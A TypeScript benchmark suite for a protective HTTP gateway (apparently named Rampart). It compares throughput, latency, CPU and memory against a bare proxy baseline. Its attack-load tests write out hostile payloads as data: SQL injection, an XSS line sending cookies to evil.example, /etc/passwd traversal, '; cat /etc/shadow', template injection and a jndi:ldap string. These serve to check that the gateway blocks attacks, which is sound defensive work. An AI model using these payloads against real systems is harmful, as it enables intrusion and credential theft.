/**
 * `npm run bench -- gateway`: the gateway against its baseline B0 (a bare node:http + undici Pool pass-through
 * proxy), same upstream, same load generator, same run — G1 (route + validation) and G2 (full protection) for a
 * GET and 1 KB / 16 KB JSON POSTs (requests/s, p50/p99, ratios, RSS), p99 added at half of B0's saturation rate,
 * G3 (body-size linearity; blocked vs clean), G4 (RSS with 100k+ distinct rate-limit keys), G5 (event-loop lag
 * under attack load; worst adversarial 64 KB input). Targets: ../shared/guide/performance.md.
 *
 * Env: GATEWAY_BENCH_SECONDS (per point, default 3), GATEWAY_BENCH_ROUNDS (default 3), GATEWAY_BENCH_CONNECTIONS
 * (default 64), GATEWAY_BENCH_THREADS (wrk threads, default 2), GATEWAY_BENCH_KEYS (distinct rate-limit keys for
 * G4, default 120000).
 */
import { loadavg } from 'node:os';
import { performance } from 'node:perf_hooks';
import { createSignaturesFilter } from '../src/protect/filters/signatures/signatures.js';
import { Transaction } from '../src/protect/transaction.js';
import type { Suite, SuiteResult } from './harness.js';
import { median } from './harness.js';
import { GET_PATH, POST_PATH, orderBody } from './support/gateway-fixtures.js';
import { hasWrk, postScript, runAtRate, runWrk, wrkScript, type LoadResult } from './support/load.js';
import { freePort, promValue, startTarget, type Child } from './support/processes.js';

const env = (k: string, d: number) => (process.env[k] ? Number(process.env[k]) : d);
const SECONDS = env('GATEWAY_BENCH_SECONDS', 3);
const ROUNDS = env('GATEWAY_BENCH_ROUNDS', 3);
const CONNS = env('GATEWAY_BENCH_CONNECTIONS', 64);
const THREADS = env('GATEWAY_BENCH_THREADS', 2);
const KEYS = env('GATEWAY_BENCH_KEYS', 120_000);

type Kind = 'get' | 'json1k' | 'json16k';
const KINDS: readonly Kind[] = ['get', 'json1k', 'json16k'];
const TARGETS = ['b0', 'g1', 'g2'] as const;
type TargetName = (typeof TARGETS)[number];

const r2 = (n: number) => Math.round(n * 100) / 100;
const r3 = (n: number) => Math.round(n * 1000) / 1000;

function tx(method: string, target: string, body?: string): Transaction {
  const q = target.indexOf('?');
  const t = new Transaction({
    id: 'bench',
    time: Date.now(),
    method,
    target,
    path: q === -1 ? target : target.slice(0, q),
    query: q === -1 ? '' : target.slice(q + 1),
    host: 'localhost',
    clientIp: '127.0.0.1',
    peerIp: '127.0.0.1',
    rawHeaders: body ? ['Host', 'localhost', 'Content-Type', 'application/json', 'Content-Length', String(body.length)] : ['Host', 'localhost'],
    route: undefined,
    routeKey: '*',
  });
  if (body) t.requestBody = Buffer.from(body);
  return t;
}

/** µs per signature inspection of a request (median of 5 batches). */
function signatureMicros(method: string, target: string, body: string | undefined, iterations: number): number {
  const f = createSignaturesFilter({ paranoia: 1, threshold: 5, exclusions: [], maxBodyBytes: 1 << 20, status: (_r, s) => s });
  const batches: number[] = [];
  for (let b = 0; b < 6; b++) {
    const t0 = performance.now();
    for (let i = 0; i < iterations; i++) f.evaluate(tx(method, target, body));
    if (b > 0) batches.push(((performance.now() - t0) * 1000) / iterations);
  }
  return median(batches);
}

/** Longest single inspection (ms) over adversarial 64 KB inputs. */
function worstAdversarialMs(): { ms: number; input: string } {
  const f = createSignaturesFilter({ paranoia: 1, threshold: 5, exclusions: [], maxBodyBytes: 1 << 20, status: (_r, s) => s });
  const n = 65_536;
  const inputs: Record<string, string> = {
    quotes: `{"note":"${"'".repeat(n - 12)}"}`,
    'open tags': `{"note":"${'<a'.repeat((n - 12) / 2)}"}`,
    parens: `{"note":"${'('.repeat(n - 12)}"}`,
    'sql comment starts': `{"note":"${'/*'.repeat((n - 12) / 2)}"}`,
    'percent escapes': `{"note":"${'%25'.repeat((n - 12) / 3)}"}`,
    'deep json': `${'['.repeat(n / 2)}${']'.repeat(n / 2)}`,
    'union select repeats': `{"note":"${'union select '.repeat((n - 12) / 13)}"}`,
    'form pairs': `a=${'&a='.repeat((n - 2) / 3)}`,
  };
  // per input the median of 3 calls (one GC pause or a neighbour's burst must not decide the worst case)
  let worst = { ms: 0, input: '' };
  const timed = (run: () => unknown): number =>
    median(
      [0, 1, 2].map(() => {
        const t0 = performance.now();
        run();
        return performance.now() - t0;
      }),
    );
  for (const [name, body] of Object.entries(inputs)) {
    const ms = timed(() => f.evaluate(tx('POST', '/api/v1/orders', body)));
    if (ms > worst.ms) worst = { ms, input: name };
    const qms = timed(() => f.evaluate(tx('GET', `/api/v1/products?q=${encodeURIComponent(body.slice(0, 8000))}`)));
    if (qms > worst.ms) worst = { ms: qms, input: `${name} (query)` };
  }
  return worst;
}

async function metricsText(adminPort: number): Promise<string> {
  const res = await fetch(`http://127.0.0.1:${adminPort}/metrics`);
  return res.text();
}

export const gatewayBench: Suite = {
  name: 'gateway',
  kind: 'bench',
  title: 'gateway throughput and latency vs a bare pass-through proxy (B0): G1–G5',
  async run(): Promise<SuiteResult> {
    const notes: string[] = [];
    const loadAverageBefore = loadavg();
    if (!hasWrk()) throw new Error('wrk is missing: `apt-get install -y wrk` (Debian) — the gateway benchmark needs it for saturation load');
    const ports = { up: await freePort(), b0: await freePort(), g1: await freePort(), g2: await freePort(), a1: await freePort(), a2: await freePort(), g2k: await freePort(), a2k: await freePort() };
    const children: Child[] = [];
    try {
      const up = await startTarget(['upstream', String(ports.up)]);
      children.push(up);
      const procs: Record<TargetName, Child> = {
        b0: await startTarget(['b0', String(ports.b0), String(ports.up)]),
        g1: await startTarget(['g1', String(ports.g1), String(ports.up), String(ports.a1)]),
        g2: await startTarget(['g2', String(ports.g2), String(ports.up), String(ports.a2)]),
      };
      children.push(...Object.values(procs));
      const url = (t: TargetName, path: string) => `http://127.0.0.1:${ports[t]}${path}`;
      const body1k = orderBody(1024);
      const body16k = orderBody(16384);
      const scripts: Record<Kind, string | undefined> = { get: undefined, json1k: postScript(body1k), json16k: postScript(body16k) };
      const pathOf = (k: Kind) => (k === 'get' ? GET_PATH : POST_PATH);

      // sanity: every target answers 200 to every kind; G2 blocks an attack
      for (const t of TARGETS) {
        for (const k of KINDS) {
          const res = await fetch(url(t, pathOf(k)), k === 'get' ? {} : { method: 'POST', headers: { 'content-type': 'application/json' }, body: k === 'json1k' ? body1k : body16k });
          await res.arrayBuffer();
          if (res.status !== 200) throw new Error(`${t} answered ${res.status} to ${k}`);
        }
      }
      const attack = await fetch(url('g2', `${GET_PATH}&q=${encodeURIComponent("1' UNION SELECT password FROM users--")}`));
      await attack.arrayBuffer();
      if (attack.status !== 400 && attack.status !== 403) throw new Error(`g2 let an attack through (${attack.status})`);

      // saturation throughput, targets interleaved within each round
      const runs: Record<Kind, Record<TargetName, LoadResult[]>> = { get: { b0: [], g1: [], g2: [] }, json1k: { b0: [], g1: [], g2: [] }, json16k: { b0: [], g1: [], g2: [] } };
      // CPU time of the target process per request (µs): robust where wall-clock throughput is not (a shared machine)
      const cpu: Record<Kind, Record<TargetName, number[]>> = { get: { b0: [], g1: [], g2: [] }, json1k: { b0: [], g1: [], g2: [] }, json16k: { b0: [], g1: [], g2: [] } };
      for (const k of KINDS) {
        for (const t of TARGETS) await runWrk(url(t, pathOf(k)), { seconds: 1, connections: CONNS, threads: THREADS, ...(scripts[k] ? { script: scripts[k] } : {}) });
        for (let r = 0; r < ROUNDS; r++) {
          for (const t of TARGETS) {
            const c0 = procs[t].cpuMs();
            const res = await runWrk(url(t, pathOf(k)), { seconds: SECONDS, connections: CONNS, threads: THREADS, ...(scripts[k] ? { script: scripts[k] } : {}) });
            // requests still queued when wrk stops are served after it: let the target go idle before reading its CPU
            await new Promise((r2) => setTimeout(r2, 300));
            cpu[k][t].push(((procs[t].cpuMs() - c0) * 1000) / Math.max(1, res.requests));
            if (res.non2xx > 0 || res.errors > 0) notes.push(`${t} ${k} round ${r + 1}: ${res.non2xx} non-2xx, ${res.errors} socket errors`);
            runs[k][t].push(res);
          }
        }
      }
      const med = (k: Kind, t: TargetName, f: (x: LoadResult) => number) => median(runs[k][t].map(f));
      const rps = (k: Kind, t: TargetName) => med(k, t, (x) => x.rps);

      // latency at half of B0's saturation rate
      const half: Record<'get' | 'json1k', Record<TargetName, LoadResult>> = { get: {} as Record<TargetName, LoadResult>, json1k: {} as Record<TargetName, LoadResult> };
      for (const k of ['get', 'json1k'] as const) {
        const rate = rps(k, 'b0') / 2;
        for (const t of TARGETS) {
          half[k][t] = await runAtRate(url(t, pathOf(k)), { seconds: Math.max(3, SECONDS), rate, connections: 16, ...(k === 'json1k' ? { method: 'POST', body: body1k } : {}) });
        }
      }

      // G3: blocked requests cost no more than clean ones; signature cost linear in body size
      const attackGet = `${GET_PATH}&q=${encodeURIComponent("1' UNION SELECT password FROM users--")}`;
      const attack16k = body16k.replace('"note":"Leave at the door"', '"note":"<script>document.location=\'http://evil.example/\'+document.cookie</script>"');
      const blockedScript = postScript(attack16k);
      const blocked = { get: [] as number[], json16k: [] as number[] };
      const clean = { get: [] as number[], json16k: [] as number[] };
      const g2cpu = async (path: string, script?: string) => {
        const c0 = procs.g2.cpuMs();
        const res = await runWrk(url('g2', path), { seconds: SECONDS, connections: CONNS, threads: THREADS, ...(script ? { script } : {}) });
        await new Promise((r2) => setTimeout(r2, 300));
        return { res, cpuPerRequest: ((procs.g2.cpuMs() - c0) * 1000) / Math.max(1, res.requests) };
      };
      for (let r = 0; r < ROUNDS; r++) {
        clean.get.push((await g2cpu(GET_PATH)).cpuPerRequest);
        const bg = await g2cpu(attackGet);
        blocked.get.push(bg.cpuPerRequest);
        clean.json16k.push((await g2cpu(POST_PATH, scripts.json16k!)).cpuPerRequest);
        const bp = await g2cpu(POST_PATH, blockedScript);
        blocked.json16k.push(bp.cpuPerRequest);
        if (bg.res.non2xx < bg.res.requests * 0.99 || bp.res.non2xx < bp.res.requests * 0.99) notes.push(`G3 round ${r + 1}: not every attack was blocked (${bg.res.non2xx}/${bg.res.requests}, ${bp.res.non2xx}/${bp.res.requests})`);
      }
      const sig1k = signatureMicros('POST', POST_PATH, body1k, 400);
      const sig16k = signatureMicros('POST', POST_PATH, body16k, 40);
      const sigGet = signatureMicros('GET', GET_PATH, undefined, 2000);

      // G5: event-loop lag under attack load (rotating attacks, some with 64 KB adversarial bodies)
      const attackLua = wrkScript(`
local reqs = {}
local payloads = { "1' OR '1'='1", "<script>alert(1)</script>", "../../../../etc/passwd", "; cat /etc/shadow", "{{7*7}}", "\${jndi:ldap://x/a}" }
local big = '{"note":"' .. string.rep("'", 65000) .. '"}'
local big2 = '{"note":"' .. string.rep("<a", 32500) .. '"}'
local i = 0
request = function()
  i = i + 1
  local m = i % 8
  if m == 6 then return wrk.format("POST", "${POST_PATH}", { ["Content-Type"] = "application/json" }, big) end
  if m == 7 then return wrk.format("POST", "${POST_PATH}", { ["Content-Type"] = "application/json" }, big2) end
  local p = payloads[(i % #payloads) + 1]
  local enc = string.gsub(p, "([^%w])", function(c) return string.format("%%%02X", string.byte(c)) end)
  return wrk.format("GET", "/api/v1/products?category=books&q=" .. enc)
end
`);
      await metricsText(ports.a2); // resets the lag histogram
      const attackRun = await runWrk(url('g2', '/'), { seconds: Math.max(5, SECONDS), connections: CONNS, threads: THREADS, script: attackLua });
      const afterAttack = await metricsText(ports.a2);
      const lagP99 = promValue(afterAttack, 'nodejs_eventloop_lag_p99_seconds') * 1000;
      const lagMax = promValue(afterAttack, 'nodejs_eventloop_lag_max_seconds') * 1000;
      const worst = worstAdversarialMs();

      // G4: RSS with > 100k distinct rate-limit keys (a fresh G2 keyed by a header that changes every request)
      const g2k = await startTarget(['g2-keys', String(ports.g2k), String(ports.up), String(ports.a2k)]);
      children.push(g2k);
      const keysLua = wrkScript(`
math.randomseed(os.time() + tonumber(tostring({}):sub(8), 16))
request = function()
  return wrk.format("GET", "${GET_PATH}", { ["x-client"] = "c" .. math.random(1, 2000000000) .. "-" .. math.random(1, 2000000000) })
end
`);
      const rssBefore = g2k.rssMb();
      let keySeconds = 0;
      let keyRequests = 0;
      let keyCount = 0;
      while (keyCount < KEYS && keySeconds < 120) {
        const chunk = await runWrk(`http://127.0.0.1:${ports.g2k}/`, { seconds: 5, connections: CONNS, threads: THREADS, script: keysLua });
        keySeconds += 5;
        keyRequests += chunk.requests;
        keyCount = promValue(await metricsText(ports.a2k), 'rampart_ratelimit_keys');
      }
      const keysRun = { requests: keyRequests, rps: keyRequests / Math.max(1, keySeconds) };
      const rssKeys = g2k.rssMb();

      const rss: Record<TargetName, number> = { b0: procs.b0.rssMb(), g1: procs.g1.rssMb(), g2: procs.g2.rssMb() };
      const ratio = (k: Kind, t: TargetName) => r3(rps(k, t) / rps(k, 'b0'));
      const cpuPer = (k: Kind, t: TargetName) => median(cpu[k][t]);
      const cpuRatio = (k: Kind, t: TargetName) => r3(cpuPer(k, 'b0') / cpuPer(k, t));
      const pp = (k: Kind, t: TargetName) => `${r2(med(k, t, (x) => x.p50))} / ${r2(med(k, t, (x) => x.p99))}`;
      const added = (k: 'get' | 'json1k', t: TargetName) => r2(half[k][t].p99 - half[k].b0.p99);
      // CPU per blocked request / CPU per clean request (<= 1: a blocked request costs no more)
      const g3get = r3(median(blocked.get) / median(clean.get));
      const g3post = r3(median(blocked.json16k) / median(clean.json16k));
      const sigRatio = r2(sig16k / sig1k);
      const pass = (ok: boolean) => (ok ? 'met' : 'MISSED');

      const rows: Array<Array<string | number>> = [
        ['B0', 'req/s (median)', Math.round(rps('get', 'b0')), Math.round(rps('json1k', 'b0')), Math.round(rps('json16k', 'b0')), 'baseline'],
        ['G1', 'req/s', Math.round(rps('get', 'g1')), Math.round(rps('json1k', 'g1')), Math.round(rps('json16k', 'g1')), ''],
        ['G2', 'req/s', Math.round(rps('get', 'g2')), Math.round(rps('json1k', 'g2')), Math.round(rps('json16k', 'g2')), ''],
        ['G1', 'req/s ratio to B0', ratio('get', 'g1'), ratio('json1k', 'g1'), ratio('json16k', 'g1'), `>= 0.85: ${pass(KINDS.every((k) => ratio(k, 'g1') >= 0.85))}`],
        ['G2', 'req/s ratio to B0', ratio('get', 'g2'), ratio('json1k', 'g2'), ratio('json16k', 'g2'), `>= 0.70: ${pass(KINDS.every((k) => ratio(k, 'g2') >= 0.7))}`],
        ['B0', 'CPU µs per request', r2(cpuPer('get', 'b0')), r2(cpuPer('json1k', 'b0')), r2(cpuPer('json16k', 'b0')), ''],
        ['G1', 'CPU µs per request', r2(cpuPer('get', 'g1')), r2(cpuPer('json1k', 'g1')), r2(cpuPer('json16k', 'g1')), ''],
        ['G2', 'CPU µs per request', r2(cpuPer('get', 'g2')), r2(cpuPer('json1k', 'g2')), r2(cpuPer('json16k', 'g2')), ''],
        ['G1', 'capacity ratio (B0 CPU / G1 CPU)', cpuRatio('get', 'g1'), cpuRatio('json1k', 'g1'), cpuRatio('json16k', 'g1'), `>= 0.85: ${pass(KINDS.every((k) => cpuRatio(k, 'g1') >= 0.85))}`],
        ['G2', 'capacity ratio (B0 CPU / G2 CPU)', cpuRatio('get', 'g2'), cpuRatio('json1k', 'g2'), cpuRatio('json16k', 'g2'), `>= 0.70: ${pass(KINDS.every((k) => cpuRatio(k, 'g2') >= 0.7))}`],
        ['B0', 'p50 / p99 ms at saturation', pp('get', 'b0'), pp('json1k', 'b0'), pp('json16k', 'b0'), ''],
        ['G1', 'p50 / p99 ms at saturation', pp('get', 'g1'), pp('json1k', 'g1'), pp('json16k', 'g1'), ''],
        ['G2', 'p50 / p99 ms at saturation', pp('get', 'g2'), pp('json1k', 'g2'), pp('json16k', 'g2'), ''],
        ['B0', 'p99 ms at ½ B0 rate', r2(half.get.b0.p99), r2(half.json1k.b0.p99), '', `rate ${Math.round(rps('get', 'b0') / 2)} / ${Math.round(rps('json1k', 'b0') / 2)} req/s`],
        ['G1', 'p99 added at ½ B0 rate (ms)', added('get', 'g1'), added('json1k', 'g1'), '', `<= 1 ms: ${pass(added('get', 'g1') <= 1 && added('json1k', 'g1') <= 1)}`],
        ['G2', 'p99 added at ½ B0 rate (ms)', added('get', 'g2'), added('json1k', 'g2'), '', `<= 5 ms: ${pass(added('get', 'g2') <= 5 && added('json1k', 'g2') <= 5)}`],
        ['G3', 'signature µs per request', r2(sigGet), r2(sig1k), r2(sig16k), `16 KB / 1 KB = ${sigRatio} (<= 12: ${pass(sigRatio <= 12)})`],
        ['G3', 'CPU per blocked / per clean request (G2)', g3get, '', g3post, `<= 1: ${pass(g3get <= 1.05 && g3post <= 1.05)}`],
        ['G4', 'RSS MB with rate-limit keys', `${Math.round(keyCount)} keys`, `${r2(rssKeys)} MB`, `${r2(rssBefore)} MB before`, `<= 300 MB with >= 100k keys: ${pass(rssKeys <= 300 && keyCount >= 100_000)}`],
        ['G5', 'event-loop lag under attack (ms)', `p99 ${r2(lagP99)}`, `max ${r2(lagMax)}`, `${Math.round(attackRun.rps)} req/s, ${attackRun.non2xx}/${attackRun.requests} refused`, `p99 <= 20 ms: ${pass(lagP99 <= 20)}`],
        ['G5', 'worst 64 KB adversarial input (ms, median of 3)', r2(worst.ms), worst.input, '', `<= 50 ms: ${pass(worst.ms <= 50)}`],
        ['RSS', 'MB after the runs (B0 / G1 / G2)', r2(rss.b0), r2(rss.g1), r2(rss.g2), ''],
      ];
      notes.unshift(
        `wrk -t${THREADS} -c${CONNS} -d${SECONDS}s, ${ROUNDS} rounds (medians), targets interleaved per round; each target is its own single process on this 2-core machine, sharing it with wrk and the upstream`,
        'B0 = node:http + undici Pool.stream pass-through (keep-alive both sides, streamed bodies); G1 = Rampart with the spec (route + request validation), signatures off; G2 = full protection: validation + signatures PL1 + 2 rate limits + IP and token deny lists + countermeasures (actor marks) + the tap to live analysis (inventory learner + behaviour detection) + event log + metrics',
        `half-rate latency: autocannon -c16 at a fixed ½ of B0's median saturation rate; "added" = target p99 − B0 p99 at the same rate`,
        'CPU µs per request = the target process\'s user+system CPU during a run / requests served: on a shared machine (load average in the JSON) it measures each proxy\'s own cost where req/s mostly measures the neighbours; capacity ratio = B0 CPU / target CPU',
        `G4: ${keysRun.requests} requests with a random x-client header over ${keySeconds}s (${Math.round(keysRun.rps)} req/s), limit 100/s per key`,
      );
      return {
        columns: ['id', 'measure', 'GET', '1 KB POST', '16 KB POST', 'target'],
        rows,
        notes,
        json: {
          settings: { seconds: SECONDS, rounds: ROUNDS, connections: CONNS, threads: THREADS, loadGenerator: 'wrk', loadAverageBefore },
          throughput: Object.fromEntries(KINDS.map((k) => [k, Object.fromEntries(TARGETS.map((t) => [t, { rps: r2(rps(k, t)), p50ms: r2(med(k, t, (x) => x.p50)), p99ms: r2(med(k, t, (x) => x.p99)), runs: runs[k][t].map((x) => r2(x.rps)) }]))])),
          ratios: Object.fromEntries(KINDS.map((k) => [k, { g1: ratio(k, 'g1'), g2: ratio(k, 'g2') }])),
          cpuMicrosPerRequest: Object.fromEntries(KINDS.map((k) => [k, Object.fromEntries(TARGETS.map((t) => [t, r2(cpuPer(k, t))]))])),
          capacityRatios: Object.fromEntries(KINDS.map((k) => [k, { g1: cpuRatio(k, 'g1'), g2: cpuRatio(k, 'g2') }])),
          loadAverage: loadavg(),
          halfRate: Object.fromEntries((['get', 'json1k'] as const).map((k) => [k, { rate: Math.round(rps(k, 'b0') / 2), p99ms: Object.fromEntries(TARGETS.map((t) => [t, r2(half[k][t].p99)])), addedMs: { g1: added(k, 'g1'), g2: added(k, 'g2') } }])),
          g3: { signatureMicros: { get: r2(sigGet), json1k: r2(sig1k), json16k: r2(sig16k), ratio16kTo1k: sigRatio }, blockedToCleanCpu: { get: g3get, json16k: g3post, cpuMicros: { blockedGet: r2(median(blocked.get)), cleanGet: r2(median(clean.get)), blocked16k: r2(median(blocked.json16k)), clean16k: r2(median(clean.json16k)) } } },
          g4: { keys: keyCount, rssMb: r2(rssKeys), rssBeforeMb: r2(rssBefore), requests: keysRun.requests, seconds: keySeconds },
          g5: { lagP99Ms: r2(lagP99), lagMaxMs: r2(lagMax), attackRps: r2(attackRun.rps), refused: attackRun.non2xx, requests: attackRun.requests, worstAdversarialMs: r2(worst.ms), worstInput: worst.input },
          rssMb: rss,
        },
      };
    } finally {
      for (const c of children) await c.stop();
    }
  },
};
